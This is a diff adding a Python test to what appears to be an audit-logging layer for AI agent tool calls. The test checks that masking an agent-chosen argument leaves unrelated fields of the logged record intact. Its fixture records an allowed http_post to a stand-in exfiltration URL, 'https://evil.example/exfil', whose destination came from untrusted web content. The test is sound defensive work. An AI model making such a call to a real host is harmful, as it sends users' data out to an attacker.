@@ -153,3 +153,30 @@ async def test_a_masked_argument_reaches_the_log_through_no_other_field(tmp_path
     assert not {approval["result"]["binding"], approval["result"]["binding"].removeprefix("hmac-sha256:")} & tried
     decisions = [e for e in sent if e["kind"] == "decision"]
     assert all(e["input"]["values"]["body"] == "[masked]" for e in decisions)
+
+
+def test_a_masked_value_the_agent_chose_erases_nothing_else_of_the_record() -> None:
+    """The agent picks the masked argument's value: naming another argument's host, a word of the
+    status or a tool in a source label must not erase those from its own record. Only the result's
+    messages lose quotations of it."""
+    event = AuditEvent.model_validate({
+        "decision_id": "d1", "timestamp": "2026-11-28T10:00:00.000000Z", "kind": "decision", "outcome": "allow",
+        "tool": "http_post",
+        "input": {"tool": "http_post", "args": {"pin": "evil.example", "url": "https://evil.example/exfil",
+                                                "note": "yes allowed"},
+                  "values": {"url": [{"key": "u:https://evil.example/exfil", "sources": ["untrusted:web_fetch:c7"]}]},
+                  "provenance": {"url": ["untrusted:web_fetch:c7"]}},
+        "result": {"allow": True, "status": "yes",
+                   "reasons": ["destination evil.example is from untrusted:web_fetch:c7"]},
+    })  # fmt: skip
+    written, _ = as_written(event, [("/input/args/pin", True), ("/input/args/note", False)], b"k" * 32)
+    assert written.input is not None
+    assert written.input["args"]["url"] == "https://evil.example/exfil"
+    assert written.input["values"]["url"][0]["key"] == "u:https://evil.example/exfil"
+    assert written.input["provenance"]["url"] == ["untrusted:web_fetch:c7"]
+    assert written.result is not None
+    assert written.result["status"] == "yes"
+    assert written.result["reasons"] == ["destination [masked] is from untrusted:web_fetch:c7"]
+    assert masked_paths(written.labels["masked"]) == [
+        "/input/args/pin", "/input/args/note", "/result/reasons/0",
+    ]  # fmt: skip
